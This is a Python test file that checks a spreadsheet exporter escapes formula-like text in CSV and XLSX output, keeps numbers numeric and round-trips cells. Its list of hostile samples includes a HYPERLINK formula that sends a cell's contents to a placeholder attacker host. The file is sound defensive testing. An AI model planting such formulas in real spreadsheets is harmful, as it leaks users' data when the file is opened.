"""Exports a spreadsheet opens safely: formula-looking text is written as text, numbers stay numbers,
and reading the file back gives the same cells."""

from __future__ import annotations

import io

import openpyxl
import pytest

from cadence.store.sheet_writer import csv_text, is_risky, neutralise, xlsx_bytes
from cadence.store.tables import read_text, read_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "'=already quoted once",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_protected(text: str) -> None:
    assert is_risky(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("cell", ["-1200", "-12.5", "+3", "-1,200", "Revenue", "'quoted", "", -5, 3.5, None])
def test_numbers_and_plain_text_are_left_alone(cell: str | int | float | None) -> None:
    assert neutralise(cell) == cell


def test_csv_round_trip_gives_the_same_text_back() -> None:
    rows = [["Title", "Value"], *[[text, -3] for text in HOSTILE]]
    written = csv_text(rows)
    assert "\"'=HYPERLINK(" in written  # what a spreadsheet opens: a quoted, inert cell
    assert read_text(written).tables[0].rows == [["Title", "Value"], *[[text, "-3"] for text in HOSTILE]]


def test_xlsx_text_cells_are_strings_never_formulas_and_read_back_the_same() -> None:
    payload = xlsx_bytes([("Rocks", [["Title", "N"], *[[text, -3] for text in HOSTILE]])])
    sheet = openpyxl.load_workbook(io.BytesIO(payload))["Rocks"]
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s", row[0].value
        assert row[1].data_type == "n"
    book = read_xlsx(payload)
    # XML itself turns a carriage return into a line feed; every other cell comes back as written
    assert book.tables[0].rows[1:] == [[text.replace("\r", "\n"), "-3"] for text in HOSTILE]


def test_sheet_names_are_made_legal_for_excel() -> None:
    payload = xlsx_bytes([("Q4: rocks/issues [draft] and a very long name", [["x"]])])
    (title,) = openpyxl.load_workbook(io.BytesIO(payload)).sheetnames
    assert title == "Q4- rocks-issues -draft- and a "
